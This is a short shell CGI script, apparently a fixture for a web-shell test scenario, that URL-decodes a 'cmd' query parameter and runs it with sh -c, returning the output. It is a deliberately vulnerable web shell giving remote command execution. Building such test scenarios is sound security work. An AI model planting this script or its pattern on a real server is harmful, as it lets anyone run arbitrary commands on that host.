#!/bin/sh
# A vulnerable CGI script: it runs whatever its "cmd" parameter says (the webshell scenario uses it).
echo "Content-Type: text/plain"
echo
cmd=$(httpd -d "${QUERY_STRING#cmd=}")
sh -c "$cmd" 2>&1
